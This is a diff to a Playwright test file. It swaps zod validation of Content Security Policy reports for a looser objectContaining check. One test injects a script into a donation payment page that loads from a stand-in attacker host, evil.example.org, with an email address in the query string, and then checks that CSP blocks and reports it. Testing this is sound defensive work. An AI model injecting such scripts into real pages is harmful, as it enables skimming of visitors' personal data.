@@ -3,7 +3,6 @@ import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { expect, type Page } from '@playwright/test';
-import { z } from 'zod';
 import { type PaymentScript, paymentScripts } from '@/content/payment-scripts';
 import { makeCertificate } from '@/scripts/bench/load-nginx';
 import { buildAppStart } from '@/scripts/build-enhance.mjs';
@@ -98,10 +97,6 @@ test('the command that compares a deployed site with the inventory finds nothing
   await expect(run('no-address')).rejects.toMatchObject({ code: 1 });
 });
 
-const reported = z.array(
-  z.object({ page: z.string(), directive: z.string(), blocked: z.string() }),
-);
-
 test('a script injected into a payment page is blocked and reported', async ({ page, fake }) => {
   const folder = newFolder('tls');
   makeCertificate(folder);
@@ -115,13 +110,13 @@ test('a script injected into a payment page is blocked and reported', async ({ p
     script.src = 'https://evil.example.org/a.js?email=parent@example.org';
     document.head.append(script);
   });
-  const list = async () =>
-    reported.parse(await (await page.request.get(`${fake.url}/api/csp-reports`)).json());
-  await expect.poll(list).toContainEqual({
+  const list = async () => (await page.request.get(`${fake.url}/api/csp-reports`)).json();
+  const reported = {
     page: '/donate-register',
     directive: 'script-src-elem',
     blocked: 'https://evil.example.org/a.js',
-  });
+  };
+  await expect.poll(list).toContainEqual(expect.objectContaining(reported));
   const metrics = await (await page.request.get(`${fake.url}/api/metrics`)).text();
   expect(metrics).toMatch(
     /site_csp_reports_total\{page="\/donate-register",directive="script-src-elem"\} [1-9]/,
